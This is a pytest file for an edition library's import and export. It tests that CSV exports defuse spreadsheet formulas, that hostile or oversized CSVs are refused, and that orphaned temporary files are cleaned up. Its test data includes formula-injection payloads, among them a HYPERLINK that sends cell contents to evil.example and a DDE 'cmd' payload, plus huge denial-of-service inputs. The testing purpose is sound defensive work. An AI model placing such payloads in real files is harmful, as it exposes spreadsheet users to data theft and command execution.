"""Issue 16 (the second outside audit): what editions take in and give out.

An imported edition never overwrites another, a CSV export cannot run a formula in the
spreadsheet that opens it (and still reads back to the same cards), a hostile CSV is
refused before it is built, and the library cleans what a killed writer left behind.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import signal
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest

from companion.editions import CsvError, EditionLibrary, cards_from_csv, itineraries_from_csv, shipped_edition
from companion.editions.csv_forms import MAX_CSV_FIELD, MAX_CSV_RECORD, MAX_CSV_ROWS
from companion.editions.library import copy_name
from companion.editions.writes import ORPHAN_AGE
from companion.engine.edition import edition_to_json
from tests.support.tables import api_client

REFERENCE = edition_to_json(shipped_edition("reference"))
PIN = {"X-Table-Pin": "2468"}


# --- item 5: an import never overwrites an owner's edition --------------------------------------


def test_importing_a_long_named_edition_three_times_keeps_every_copy(tmp_path: Path) -> None:
    library = EditionLibrary(tmp_path)
    long_name = "our-family-box-with-the-grandparents-cds"  # 40 characters: the longest slug
    names = []
    for n in range(4):
        shared = {**REFERENCE, "name": long_name, "title": f"import number {n}"}
        names.append(library.import_text(json.dumps(shared)))
    assert len(set(names)) == 4, names
    for n, name in enumerate(names):
        assert library.raw(name)["title"] == f"import number {n}", f"{name} was overwritten"
    assert names[1:] == [copy_name(long_name, n) for n in (2, 3, 4)]
    assert all(len(name) <= 40 for name in names)


def test_a_copys_name_is_a_slug_even_when_the_cut_ends_on_a_dash() -> None:
    assert copy_name("a" * 29 + "-bcdef", 12) == "a" * 29 + "-12"


# --- item 3: a CSV export runs no formula in a spreadsheet --------------------------------------

ATTACKS = {
    "I01": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "I02": "=cmd|' /C calc'!A0",
    "I03": "+SUM(1,2)",
    "I04": "-2+3",
    "I05": "@SUM(A1:A9)",
    "I06": "\tTAB=1+1",
    "I07": "\r=1+1",
}


def attacked_edition(library: EditionLibrary) -> None:
    """An owner's edition whose titles, notes and an id start as formulas; Day I years BCE."""
    obj = library.create("attacked", "reference", with_cards=True)
    for card in obj["cards"]:
        if card["id"] in ATTACKS:
            card["title"] = card["note"] = ATTACKS[card["id"]]
            card["year"] = -490
    obj["cards"][7]["id"] = "=1+1"
    obj["itineraries"][0]["id"] = "-T01"
    library.save("attacked", obj)


def formula_cells(text: str) -> list[str]:
    """Every cell of a CSV a spreadsheet would run: it starts with = + - @ TAB CR and is not a number."""
    rows = list(csv.reader(io.StringIO(text, newline="")))
    return [
        cell
        for row in rows
        for cell in row
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and re.fullmatch(r"-?[0-9]+", cell) is None
    ]


def test_the_cli_and_the_api_export_no_formula_and_read_back_the_same(tmp_path: Path, capsys: Any) -> None:
    from companion.run.cli import main

    library = EditionLibrary(tmp_path)
    attacked_edition(library)
    obj = library.raw("attacked")
    assert main(["edition", "export", "attacked", "--csv", "--data-dir", str(tmp_path)]) == 0
    cli_cards = capsys.readouterr().out
    assert main(["edition", "export", "attacked", "--itineraries-csv", "--data-dir", str(tmp_path)]) == 0
    cli_itineraries = capsys.readouterr().out
    with api_client(tmp_path) as (http, _):
        api_cards = http.get("/api/library/attacked/export?format=csv", headers=PIN).get_data(as_text=True)
        api_itineraries = http.get(
            "/api/library/attacked/export?format=itineraries-csv", headers=PIN
        ).get_data(as_text=True)
    for text in (cli_cards, api_cards, cli_itineraries, api_itineraries):
        assert formula_cells(text) == []
    assert api_cards == cli_cards
    rows = {row[0]: row for row in csv.reader(io.StringIO(cli_cards, newline=""))}
    assert rows["I01"][3] == "'" + ATTACKS["I01"] and rows["I01"][6] == "'" + ATTACKS["I01"]
    assert rows["I01"][2] == "-490", "a BCE year stays a number"
    assert "'=1+1" in rows
    # the import reads each defused cell back to the text the owner typed
    assert cards_from_csv(cli_cards) == obj["cards"]
    assert [it["id"] for it in itineraries_from_csv(cli_itineraries)] == [
        it["id"] for it in obj["itineraries"]
    ]


def test_a_title_that_starts_with_a_quote_is_kept_as_typed() -> None:
    header = "id,day,year,title,hours,gains,note\n"
    cards = cards_from_csv(header + "A,I,1,'Tis the season,1,,'quoted'\nB,I,2,'''=x,1,,\n")
    assert [c["title"] for c in cards] == ["'Tis the season", "''=x"]
    assert cards[0]["note"] == "'quoted'"


# --- item 4: a hostile CSV is refused before it is built ------------------------------------------

CARD_HEADER = "id,day,year,title,hours,gains,note\n"


def test_a_csv_with_more_rows_than_a_box_is_refused_at_the_first_row_too_many() -> None:
    rows = "".join(f"C{n},I,{n},,1,,\n" for n in range(MAX_CSV_ROWS + 1))
    with pytest.raises(CsvError) as caught:
        cards_from_csv(CARD_HEADER + rows)
    assert [str(p) for p in caught.value.problems] == [
        f"line {MAX_CSV_ROWS + 2}, column *: more than {MAX_CSV_ROWS} rows; an edition has far fewer"
    ]
    assert len(cards_from_csv(CARD_HEADER + rows.rsplit("C", 1)[0])) == MAX_CSV_ROWS, "the maximum is kept"
    with pytest.raises(CsvError, match=f"line {MAX_CSV_ROWS + 2}, column \\*: more than"):
        itineraries_from_csv("id,person,event,innovation,progress,rows\n" + "\n" * (MAX_CSV_ROWS + 1))


def test_three_million_short_rows_are_one_problem_not_three_million() -> None:
    """The audit's file: each row a problem, all of them kept (1.7 GB) before the row bound."""
    with pytest.raises(CsvError) as caught:
        cards_from_csv(CARD_HEADER + "a,1\n" * 3_000_000)
    assert [str(p) for p in caught.value.problems] == [
        f"line {MAX_CSV_ROWS + 2}, column *: more than {MAX_CSV_ROWS} rows; an edition has far fewer"
    ]


def test_a_cell_longer_than_any_field_is_refused_with_its_line_and_column() -> None:
    long_title = CARD_HEADER + "A,I,1,ok,1,,\nB,I,2," + "t" * (MAX_CSV_FIELD + 1) + ",1,,\n"
    with pytest.raises(CsvError) as caught:
        cards_from_csv(long_title)
    assert [str(p) for p in caught.value.problems] == [
        f"line 3, column title: a cell longer than {MAX_CSV_FIELD} characters"
    ]
    commas = CARD_HEADER + "A" + "," * 1_000_000 + "\n"
    with pytest.raises(CsvError, match=f"line 2, column \\*: a record longer than {MAX_CSV_RECORD}"):
        cards_from_csv(commas)


def test_the_cli_names_the_line_of_a_csv_too_long(tmp_path: Path, capsys: Any) -> None:
    from companion.run.cli import main

    src = tmp_path / "rows.csv"
    src.write_text(CARD_HEADER + "I01,I,1,,1,,\n" * 5000)
    out = tmp_path / "never.json"
    assert main(["edition", "import", str(src), "--base", "reference", "--out", str(out)]) == 2
    err = capsys.readouterr().err
    assert f"{src}: line {MAX_CSV_ROWS + 2}, column *: more than {MAX_CSV_ROWS} rows" in err
    assert not out.exists()


# --- item 10: a save killed half-way leaves no file for good -------------------------------------

#: A child that saves an edition and stops for good between writing the temporary file and
#: renaming it (its fsync never returns), so the test can kill it -9 right there.
KILLED_SAVE = """
import os, sys, time
from companion.editions import EditionLibrary
import companion.editions.writes
library = EditionLibrary(sys.argv[1])
obj = library.raw("my-box")
def stuck(fd):
    print("writing", flush=True)
    time.sleep(600)
companion.editions.writes.os.fsync = stuck
library.save("my-box", {**obj, "title": "never saved"})
"""


def test_a_save_killed_mid_write_leaves_a_temporary_file_the_next_start_removes(tmp_path: Path) -> None:
    from companion.run.startup import build_runtime
    from companion.util.config import Config

    library = EditionLibrary(tmp_path)
    library.create("my-box")
    saved = library.raw("my-box")
    child = subprocess.Popen(
        [sys.executable, "-c", KILLED_SAVE, str(tmp_path)],
        stdout=subprocess.PIPE,
        text=True,
        env={**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[2])},
    )
    assert child.stdout is not None and child.stdout.readline() == "writing\n"
    child.send_signal(signal.SIGKILL)
    child.wait()
    folder = tmp_path / "editions"
    orphans = [p for p in folder.iterdir() if p.name.endswith(".tmp")]
    assert len(orphans) == 1 and orphans[0].name.startswith(".my-box.json."), orphans
    assert library.raw("my-box") == saved, "the edition is the old one"
    said: list[str] = []
    rt = build_runtime(Config(), tmp_path, mock=True, pin="2468", say=said.append)
    rt.stop()
    assert orphans[0].exists(), "a minute-young temporary file may be a live save's: kept"
    old = time.time() - 2 * ORPHAN_AGE
    os.utime(orphans[0], (old, old))
    rt = build_runtime(Config(), tmp_path, mock=True, pin="2468", say=said.append)
    rt.stop()
    assert not orphans[0].exists()
    assert sorted(p.name for p in folder.iterdir()) == ["my-box.json"]
    assert any(orphans[0].name in line and "never finished" in line for line in said), said


def test_only_the_librarys_own_old_temporary_files_are_removed(tmp_path: Path) -> None:
    library = EditionLibrary(tmp_path)
    library.create("my-box")
    folder = tmp_path / "editions"
    names = {
        ".my-box.json.k2j_9x.tmp": True,  # an edition's save that never finished
        ".default-edition.ab12cd.tmp": True,  # the default's
        ".my-box.json.fresh1.tmp": False,  # young: perhaps a save under way elsewhere
        "notes.tmp": False,  # not the library's
        ".my-box.json.k2j_9x.tmp.keep": False,
        "my-box.json": False,
    }
    now = time.time()
    for name in names:
        if name != "my-box.json":
            (folder / name).write_text("x")
        age = 0 if "fresh" in name else 3 * ORPHAN_AGE
        os.utime(folder / name, (now - age, now - age))
    (folder / ".other.json.lnk123.tmp").symlink_to(folder / "my-box.json")
    os.utime(folder / ".other.json.lnk123.tmp", (now - 600, now - 600), follow_symlinks=False)
    assert library.clean_orphans(now) == sorted(n for n, gone in names.items() if gone)
    left = {p.name for p in folder.iterdir()}
    assert left == {n for n, gone in names.items() if not gone} | {".other.json.lnk123.tmp"}
    assert library.raw("my-box")["name"] == "my-box"
    assert EditionLibrary(tmp_path / "none").clean_orphans() == [] and not (tmp_path / "none").exists()


# --- an owner's file that the JSON decoder cannot take is a problem, not a traceback -------------

#: Text Python's decoder refuses with a RecursionError or a ValueError of its own, not a
#: JSONDecodeError: an owner's file edited by hand (or by another program) may hold either.
UNUSABLE = {"deep": "[" * 100_000, "huge": '{"treks": [' + "9" * 5000 + "]}"}


@pytest.mark.parametrize("name", sorted(UNUSABLE))
def test_an_owners_file_json_cannot_decode_is_one_problem_everywhere(
    tmp_path: Path, capsys: Any, name: str
) -> None:
    from companion.run.cli import main

    library = EditionLibrary(tmp_path)
    library.folder.mkdir(parents=True)
    library.path(name).write_text(UNUSABLE[name], encoding="utf-8")
    info = library.info(name)
    assert not info.complete and "not usable JSON" in info.problem, info
    said = f"{library.path(name)}: file: error: not usable JSON"
    for command in (["export", name], ["list"], ["card", name, "--day", "I", "--year", "1", "--hours", "1"]):
        code = main(["edition", *command, "--data-dir", str(tmp_path)])
        out, err = capsys.readouterr()
        if command[0] == "list":
            assert code == 0 and f"PROBLEM: {said}" in out
        else:
            assert code == 2 and err.startswith(f"companion: {said}")
            assert "Traceback" not in err
    with api_client(tmp_path) as (http, rt):
        own = EditionLibrary(rt.store.path.parent)
        own.folder.mkdir(parents=True, exist_ok=True)
        own.path(name).write_text(UNUSABLE[name], encoding="utf-8")
        listed = http.get("/api/library", headers=PIN)
        assert listed.status_code == 200
        problem = next(e["problem"] for e in listed.get_json()["editions"] if e["name"] == name)
        assert "not usable JSON" in problem
        shown = http.get(f"/api/library/{name}", headers=PIN)
        assert shown.status_code == 400 and shown.get_json()["code"] == "edition_problems"
        assert shown.get_json()["params"]["where"] == "file"
